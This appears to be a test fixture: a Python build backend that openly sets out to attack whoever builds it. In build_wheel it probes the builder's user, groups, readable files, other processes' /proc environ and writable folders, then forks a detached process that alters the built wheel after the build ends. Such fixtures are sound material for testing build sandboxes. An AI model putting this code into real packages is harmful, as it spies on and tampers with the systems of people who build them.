"""The build program of a source distribution that attacks those who build it. Stays in one file."""

import base64
import hashlib
import json
import os
import sys
import zipfile

PROBE = """
import json, os, pwd


def reads(path):
    try:
        open(path, "rb").read(1)
        return True
    except OSError:
        return False


known = json.loads(os.environ["KNOWN"])
environs = [p for p in os.listdir("/proc") if p.isdigit() and reads("/proc/%s/environ" % p)]
# Its own processes can be read; none of another user.
foreign = [p for p in environs if os.stat("/proc/%s" % p).st_uid != os.getuid()]
writable = [path for path in known["folders"] if os.access(path, os.W_OK)]
found = {
    "user": pwd.getpwuid(os.getuid()).pw_name,
    "groups": os.getgroups(),
    "read": [path for path in known["files"] if reads(path)],
    "foreign": foreign,
    "writable": writable,
    "environ": sorted(os.environ),
}
"""

LATER = """
import glob, sys, time
for _ in range(400):
    time.sleep(0.05)
    for file in glob.glob(sys.argv[1]):
        try:
            open(file, "a").write("late = True\\n")
        except OSError:
            pass
"""


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "known.json")) as file:
        os.environ["KNOWN"] = file.read()
    scope = {}
    exec(PROBE, scope)
    # It stays, and changes what it built after the build has ended.
    built = json.loads(os.environ["KNOWN"])["built"]
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", LATER, built])
    files = {"evil.py": f"found = {scope['found']!r}\n", "evil-1.0.dist-info/METADATA": _METADATA}
    files["evil-1.0.dist-info/WHEEL"] = _WHEEL
    record = ""
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record += f"{name},sha256={digest.decode()},{len(text.encode())}\n"
    name = "evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
        archive.writestr("evil-1.0.dist-info/RECORD", record + "evil-1.0.dist-info/RECORD,,\n")
    return name


_METADATA = "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
_WHEEL = "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
